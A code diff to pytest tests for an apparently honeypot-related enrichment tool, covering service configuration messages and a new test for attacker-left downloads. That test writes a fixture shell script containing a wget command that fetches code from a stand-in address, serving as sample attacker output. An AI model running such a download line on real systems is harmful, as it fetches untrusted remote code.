@@ -40,7 +40,7 @@ def player(monkeypatch: pytest.MonkeyPatch) -> Iterator[Player]:
         yield server
 
 
-def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie) -> None:
+def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch) -> None:
     ran = ingested("enrich")
     assert (ran.code, ran.out) == (1, "")
     assert ran.err == "Error: no service is asked: `cowrie-assets enrich status` says what each of them needs\n"
@@ -49,6 +49,9 @@ def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie) -> None:
     assert status.out.splitlines()[0] == "VirusTotal: off (COWRIE_VIRUSTOTAL_KEY is not set)"
     assert "Team Cymru: off (COWRIE_CYMRU=on switches it on)" in status.out
     assert [each["on"] for each in ingested("enrich", "status", "--format", "json").json["services"]] == [False] * 10
+    monkeypatch.setenv("COWRIE_SPUR", "on")
+    assert "COWRIE_SPUR is on, and COWRIE_SPUR_KEY is not set" in ingested("doctor").out
+    monkeypatch.delenv("COWRIE_SPUR")
     named = ingested("enrich", "--service", "dshield")
     assert named.err == "Error: DShield is not asked: COWRIE_DSHIELD_CONTACT is not set\n"
 
@@ -77,7 +80,7 @@ def test_a_run_tells_what_came_of_it(ingested: Cowrie, player: Player, monkeypat
 
 def test_all_services_on_the_sample(ingested: Cowrie, player: Player) -> None:
     ran = ingested("enrich")
-    assert (ran.code, ran.out.count("answered")) == (0, len(HTTP_SERVICES)), ran.err
+    assert (ran.code, ran.out.count("\n")) == (0, len(HTTP_SERVICES)), ran.err
     assert ingested("validate").code == 0
     made = len(player.calls)
     again = ingested("enrich")
@@ -181,6 +184,16 @@ def test_lists_on_this_machine_are_matched(ingested: Cowrie, monkeypatch: pytest
     file.unlink()
     gone = ingested("enrich")
     assert (gone.code, "everything.netset" in gone.err) == (1, True)
+
+
+def test_what_attackers_left_is_looked_into(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    folder = tmp_path / "left"
+    folder.mkdir()
+    (folder / ("ab" * 32)).write_bytes(b"#!/bin/sh\nwget http://192.0.2.1/x\n")
+    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(folder))
+    assert ingested("enrich", "--dry-run").out == "downloads: would look into 1 folder\n"
+    assert ingested("enrich").out == "downloads: 1 file, 1 examined\n"
+    assert ingested("enrich", "--service", "downloads").out == "downloads: 1 file, 0 examined\n"
 
 
 def test_a_key_that_is_missing_or_no_reference_is_told_by_name_only(
